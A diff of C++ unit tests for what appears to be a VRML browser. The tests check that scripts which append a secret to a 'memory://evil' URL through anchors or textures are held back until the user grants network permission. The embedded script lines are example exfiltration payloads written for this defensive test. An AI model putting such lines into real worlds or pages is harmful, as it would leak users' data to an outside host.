@@ -163,20 +163,20 @@ TEST_CASE("requires permission for loadURL and Anchors that a Script has written
                                      "anchor.url = new MFString('memory://evil/2.wrl?' + secret);",
                                      "field SFNode anchor USE N"));
   web.run(world, [&](Simulation& simulation) {
-    LivingWorld& living = *simulation.look().document->living;
-    CHECK(living.take_script_requests().empty());
+    WorldRuntime& runtime = *simulation.look().document->runtime;
+    CHECK(runtime.take_script_requests().empty());
     const vrml::SceneGraph& scene = *simulation.world().scene;
-    CHECK(living.open_computed_anchor(*living.execution().own_scene(scene), scene.roots()[0]));
-    CHECK(living.take_script_requests().empty());
-    const auto question = living.network_question();
+    CHECK(runtime.open_computed_anchor(*runtime.execution().own_scene(scene), scene.roots()[0]));
+    CHECK(runtime.take_script_requests().empty());
+    const auto question = runtime.network_question();
     REQUIRE(question);
     CHECK(question->url == "memory://evil/1?hidden");
     CHECK(question->file.ends_with("/secret.wrl"));
-    living.answer_network_question(true);
-    const std::vector<ScriptRequest> requests = living.take_script_requests();
+    runtime.answer_network_question(true);
+    const std::vector<ScriptRequest> requests = runtime.take_script_requests();
     REQUIRE(requests.size() == 2);
     CHECK(requests[1].urls == Lines{"memory://evil/2.wrl?hidden"});
-    CHECK_FALSE(living.network_question());
+    CHECK_FALSE(runtime.network_question());
   });
 }
 
@@ -188,11 +188,11 @@ TEST_CASE("sends or drops waiting requests after the user's answer") {
         web.file("world.wrl", "DEF X ImageTexture { } " +
                                   leak("x.url = new MFString('memory://evil/1?' + secret);", "field SFNode x USE X"));
     web.run(world, [&](Simulation& simulation) {
-      LivingWorld& living = *simulation.look().document->living;
+      WorldRuntime& runtime = *simulation.look().document->runtime;
       CHECK_FALSE(web.asked("memory://evil/1?hidden"));
-      REQUIRE(living.network_question());
-      living.answer_network_question(allow);
-      CHECK_FALSE(living.network_question());
+      REQUIRE(runtime.network_question());
+      runtime.answer_network_question(allow);
+      CHECK_FALSE(runtime.network_question());
     });
     CHECK(web.asked("memory://evil/1?hidden") == allow);
   }
